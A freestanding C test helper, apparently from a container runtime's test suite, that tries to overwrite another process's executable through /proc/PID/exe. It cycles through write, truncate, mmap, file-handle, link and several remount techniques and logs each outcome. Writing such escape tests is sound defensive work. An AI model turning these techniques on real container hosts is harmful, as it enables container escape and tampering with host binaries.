/*
 * The accomplice in a container: it tries to write to the program of another process, by way of /proc/PID/exe.
 *
 * It has no C library and needs none, so it can also be what the kernel starts in place of the dynamic loader of a
 * program that is executed in the container:
 *
 *   (any other name)       attacks /proc/self/exe: the program whose loader it was taken for
 *   thief path PATH DIR    attacks the file behind PATH, such as /proc/1/exe; DIR is where the report is
 *   thief scan SECONDS     the same for the first process of /proc whose program is not its own
 *   thief hold FD SECONDS  attacks an open file as soon as nobody executes it, or when the time is up
 *
 * What it tries and how that ends it appends to a file `report`, usually in /, a line each: "NAME: ok" or "NAME: ERRNO".
 * What succeeds has written to the file, or changed its owner or the like.
 */
#include <asm/unistd.h>
#include <linux/errno.h>
#include <linux/fcntl.h>
#include <linux/mount.h>

/* <sys/mount.h> */
#define MS_REMOUNT 32
#define MS_BIND 4096

typedef long word;

/* The sixth operand is 0: mmap(2) needs it. */
static word call(word n, word a, word b, word c, word d, word e) {
  word result;
  register word r10 __asm__("r10") = d;
  register word r8 __asm__("r8") = e;
  register word r9 __asm__("r9") = 0;
  __asm__ volatile("syscall"
                   : "=a"(result)
                   : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
                   : "rcx", "r11", "memory");
  return result;
}
#define CALL(name, a, b, c, d, e) \
  call(__NR_##name, (word)(a), (word)(b), (word)(c), (word)(d), (word)(e))

void *memset(void *to, int value, unsigned long size) {
  for (unsigned long i = 0; i < size; i++) ((volatile char *)to)[i] = value;
  return to;
}

static int same(const char *a, const char *b) {
  while (*a && *a == *b) a++, b++;
  return *a == *b;
}

static int contains(const char *text, const char *part) {
  for (; *text; text++) {
    int n = 0;
    while (part[n] && text[n] == part[n]) n++;
    if (!part[n]) return 1;
  }
  return 0;
}

static char *append(char *to, const char *text) {
  while (*text) *to++ = *text++;
  *to = 0;
  return to;
}

static char *append_number(char *to, word number) {
  char digits[24];
  int n = 0;
  do digits[n++] = '0' + number % 10; while (number /= 10);
  while (n) *to++ = digits[--n];
  *to = 0;
  return to;
}

static word number_of(const char *text) {
  word number = 0;
  while (*text >= '0' && *text <= '9') number = number * 10 + *text++ - '0';
  return *text ? -1 : number;
}

static word open_file(const char *path, word flags) {
  return CALL(openat, AT_FDCWD, path, flags, 0666, 0);
}

/* ---- the report ------------------------------------------------------------------------------------------------ */

/* What has been tried; each outcome of each attempt is told once. */
static struct { const char *name; word result; } told[256];
static int told_count;

static void write_line(const char *line) {
  word fd = open_file("report", O_WRONLY | O_APPEND | O_CREAT);
  if (fd < 0) CALL(exit_group, 99, 0, 0, 0, 0);
  const char *end = line;
  while (*end) end++;
  CALL(write, fd, line, end - line, 0, 0);
  CALL(close, fd, 0, 0, 0, 0);
}

static void report(const char *name, word result) {
  for (int i = 0; i < told_count; i++)
    if (told[i].name == name && told[i].result == result) return;
  if (told_count < 256) {
    told[told_count].name = name;
    told[told_count++].result = result;
  }
  char line[256], *end = append(append(line, name), ": ");
  end = result < 0 ? append_number(end, -result) : append(end, "ok");
  append(end, "\n");
  write_line(line);
}

/* ---- the attempts ---------------------------------------------------------------------------------------------- */

static const char MARK[] = "overwritten by the container\n";

/* Opens a path for writing and writes. */
static word overwrite(const char *path, word flags) {
  word fd = open_file(path, flags);
  if (fd < 0) return fd;
  word result = CALL(write, fd, MARK, sizeof MARK - 1, 0, 0);
  if (result < 0 && (flags & O_TRUNC)) result = CALL(ftruncate, fd, 0, 0, 0, 0);
  CALL(close, fd, 0, 0, 0, 0);
  return result;
}

static word overwrite_fd(word fd, word flags) {
  char path[64];
  append_number(append(path, "/proc/self/fd/"), fd);
  return overwrite(path, flags);
}

/* The mount of the file, or a clone of it, made writable: then the file is written to. */
static word remount_old(word fd, const char *path) {
  (void)fd;
  word result = CALL(mount, 0, path, 0, MS_REMOUNT | MS_BIND, 0);
  return result < 0 ? result : overwrite(path, O_WRONLY);
}

static word set_writable(word mount) {
  struct mount_attr attributes = {.attr_clr = MOUNT_ATTR_RDONLY};
  return CALL(mount_setattr, mount, "", AT_EMPTY_PATH, &attributes, sizeof attributes);
}

static word remount_new(word fd, const char *path) {
  word result = set_writable(fd);
  return result < 0 ? result : overwrite(path, O_WRONLY);
}

static word clone_mount(word fd, const char *path) {
  (void)path;
  word clone = CALL(open_tree, fd, "", AT_EMPTY_PATH | OPEN_TREE_CLONE, 0, 0);
  if (clone < 0) return clone;
  word result = set_writable(clone);
  return result < 0 ? result : overwrite_fd(clone, O_WRONLY);
}

static word bind_mount(word fd, const char *path) {
  (void)fd;
  CALL(close, open_file("stolen", O_WRONLY | O_CREAT), 0, 0, 0, 0);
  word result = CALL(mount, path, "stolen", 0, MS_BIND, 0);
  if (result < 0) return result;
  result = CALL(mount, 0, "stolen", 0, MS_REMOUNT | MS_BIND, 0);
  return result < 0 ? result : overwrite("stolen", O_WRONLY);
}

static word move_mount(word fd, const char *path) {
  (void)path;
  CALL(close, open_file("stolen", O_WRONLY | O_CREAT), 0, 0, 0, 0);
  word result = CALL(move_mount, fd, "", AT_FDCWD, "stolen", MOVE_MOUNT_F_EMPTY_PATH);
  return result < 0 ? result : overwrite("stolen", O_WRONLY);
}

static word reconfigure(word fd, const char *path) {
  word context = CALL(fspick, fd, "", FSPICK_EMPTY_PATH, 0, 0);
  if (context < 0) return context;
  word result = CALL(fsconfig, context, FSCONFIG_SET_FLAG, "rw", 0, 0);
  if (result >= 0) result = CALL(fsconfig, context, FSCONFIG_CMD_RECONFIGURE, 0, 0, 0);
  return result < 0 ? result : overwrite(path, O_WRONLY);
}

static word link_file(word fd, const char *path) {
  (void)path;
  word result = CALL(linkat, fd, "", AT_FDCWD, "linked", AT_EMPTY_PATH);
  return result < 0 ? result : overwrite("linked", O_WRONLY);
}

/* Only on the mount of the file itself: on another one, CAP_DAC_READ_SEARCH opens any file of the host. */
static word by_handle(word fd, const char *path) {
  (void)path;
  struct { unsigned size; int type; char bytes[128]; } handle = {.size = 128};
  int mount;
  word result = CALL(name_to_handle_at, fd, "", &handle, &mount, AT_EMPTY_PATH);
  if (result < 0) return result;
  word opened = CALL(open_by_handle_at, fd, &handle, O_RDWR, 0, 0);
  if (opened < 0) return opened;
  return CALL(write, opened, MARK, sizeof MARK - 1, 0, 0);
}

static word map_shared(word fd, const char *path) {
  (void)path;
  word address = CALL(mmap, 0, 4096, 3 /* read, write */, 1 /* shared */, fd);
  if (address < 0) return address;
  *(volatile char *)address = '#';
  return 0;
}

static word write_only(word fd, const char *path) { (void)fd; return overwrite(path, O_WRONLY); }
static word truncate_open(word fd, const char *path) { (void)fd; return overwrite(path, O_RDWR | O_TRUNC); }
static word truncate_path(word fd, const char *path) { (void)fd; return CALL(truncate, path, 0, 0, 0, 0); }
static word change_mode(word fd, const char *path) { (void)fd; return CALL(fchmodat, AT_FDCWD, path, 0777, 0, 0); }
static word change_owner(word fd, const char *path) { (void)fd; return CALL(fchownat, AT_FDCWD, path, 1000, 1000, 0); }
static word change_times(word fd, const char *path) { (void)fd; return CALL(utimensat, AT_FDCWD, path, 0, 0, 0); }
static word add_attribute(word fd, const char *path) { (void)fd; return CALL(setxattr, path, "trusted.mark", "x", 1, 0); }

static const struct {
  const char *name;
  word (*run)(word fd, const char *path);
} ATTEMPTS[] = {
  {"change the times", change_times},
  {"change the mode", change_mode},
  {"change the owner", change_owner},
  {"add an attribute", add_attribute},
  {"map for writing", map_shared},
  {"open for writing", write_only},
  {"open and truncate", truncate_open},
  {"truncate", truncate_path},
  {"open by handle", by_handle},
  {"link", link_file},
  {"remount", remount_old},
  {"change the mount", remount_new},
  {"clone the mount", clone_mount},
  {"bind", bind_mount},
  {"move the mount", move_mount},
  {"reconfigure the file system", reconfigure},
};

static void attack(word fd) {
  char path[64];
  append_number(append(path, "/proc/self/fd/"), fd);
  for (unsigned i = 0; i < sizeof ATTEMPTS / sizeof *ATTEMPTS; i++)
    report(ATTEMPTS[i].name, ATTEMPTS[i].run(fd, path));
}

static void pause_ms(word ms) {
  word time[2] = {ms / 1000, ms % 1000 * 1000000};
  CALL(nanosleep, time, 0, 0, 0, 0);
}

/* Attacks when nobody executes the file any more. */
static void hold(word fd, word seconds) {
  char path[64];
  append_number(append(path, "/proc/self/fd/"), fd);
  for (word rounds = seconds * 50; rounds > 0; rounds--) {
    word probe = open_file(path, O_WRONLY);
    CALL(close, probe, 0, 0, 0, 0);
    if (probe != -ETXTBSY) break;
    pause_ms(20);
  }
  attack(fd);
  report("done", 0);
}

/*
 * What may be attacked: files of a test's own folder, and images of containers. The attack is real, so any other file
 * that is seen by the way, such as a program of the host that is about to execute the one meant, is left alone.
 */
static int is_prey(const char *program) {
  return contains(program, "/nsinit-test-") || contains(program, "/memfd:nsinit");
}

/* Opens a program, and tells which it is. Whose program changes meanwhile is looked at by descriptor. */
static word open_program(const char *path) {
  char link[256], line[300], own[64];
  memset(link, 0, sizeof link);
  word fd = open_file(path, O_RDONLY);
  if (fd < 0) {
    report("steal", fd);
    return fd;
  }
  append_number(append(own, "/proc/self/fd/"), fd);
  CALL(readlinkat, AT_FDCWD, own, link, 255, 0);
  if (!is_prey(link)) {
    CALL(close, fd, 0, 0, 0, 0);
    return -EPERM;
  }
  report("steal", 0);
  append(append(append(line, "program: "), link), "\n");
  write_line(line);
  return fd;
}

/* Opens a program, attacks it while it is executed, and goes on when we execute another. */
static void steal(const char *path, int again, word seconds) {
  word fd = open_program(path);
  if (fd < 0) return;
  attack(fd);
  if (!again) return hold(fd, seconds);
  char number[24];
  append_number(number, fd);
  const char *argv[] = {"thief", "hold", number, "20", 0}, *env[] = {0};
  report("execute again", CALL(execve, "/thief", argv, env, 0, 0));
}

/* ---- other processes -------------------------------------------------------------------------------------------- */

struct entry {
  unsigned long inode, offset;
  unsigned short size;
  unsigned char type;
  char name[];
};

static word link_of(const char *dir, const char *name, const char *rest, char *link) {
  char path[320];
  append(append(append(path, dir), name), rest);
  memset(link, 0, 256);
  return CALL(readlinkat, AT_FDCWD, path, link, 255, 0);
}

/* Looks for a process that is about to become another container's, or already waits to be one. */
static int try_process(const char *pid, word seconds) {
  char link[256], path[64], fd_path[64], root[256];
  word size = link_of("/proc/", pid, "/exe", link);
  if (size == -ENOENT) return 0;
  if (size >= 0 && !is_prey(link)) return 0;
  report("see another process", size < 0 ? size : 0);
  word seen = link_of("/proc/", pid, "/root", root);
  report("see its root", seen < 0 ? seen : 0);
  append(append(append(path, "/proc/"), pid), "/exe");
  word fd = open_program(path);
  if (fd < 0) return 0;
  append(append(append(fd_path, "/proc/"), pid), "/fd");
  word fds = open_file(fd_path, O_RDONLY | O_DIRECTORY);
  report("list its descriptors", fds < 0 ? fds : 0);
  attack(fd);
  hold(fd, seconds);
  return 1;
}

static void scan(word seconds) {
  static char buffer[16384];
  for (int rounds = 0; rounds < 60000; rounds++) {
    word dir = open_file("/proc", O_RDONLY | O_DIRECTORY);
    word size = CALL(getdents64, dir, buffer, sizeof buffer, 0, 0);
    for (word at = 0; at < size;) {
      struct entry *entry = (struct entry *)(buffer + at);
      at += entry->size;
      if (number_of(entry->name) > 0 && try_process(entry->name, seconds)) return;
    }
    CALL(close, dir, 0, 0, 0, 0);
    pause_ms(1);
  }
  report("done", 0);
}

__attribute__((used)) static void thief(word *stack) {
  word argc = stack[0];
  const char **argv = (const char **)(stack + 1);
  CALL(chdir, "/", 0, 0, 0, 0);
  if (argc < 1 || !same(argv[0], "thief")) steal("/proc/self/exe", 1, 0);
  else if (argc > 3 && same(argv[1], "path")) {
    CALL(chdir, argv[3], 0, 0, 0, 0);
    steal(argv[2], 0, 20);
  }
  else if (argc > 2 && same(argv[1], "scan")) scan(number_of(argv[2]));
  else if (argc > 3 && same(argv[1], "hold")) hold(number_of(argv[2]), number_of(argv[3]));
  CALL(exit_group, 0, 0, 0, 0, 0);
}

__asm__(".globl _start\n_start:\n  xor %ebp, %ebp\n  mov %rsp, %rdi\n  and $-16, %rsp\n  call thief\n");
